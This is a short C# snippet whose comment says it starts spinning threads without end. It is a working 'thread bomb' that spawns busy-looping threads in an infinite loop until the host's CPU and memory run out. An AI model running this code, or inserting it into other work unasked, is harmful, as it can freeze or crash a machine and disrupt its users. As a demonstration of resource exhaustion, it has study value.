// Starts spinning threads without end.
while (true)
{
    new Thread(() => { while (true) { } }).Start();
}
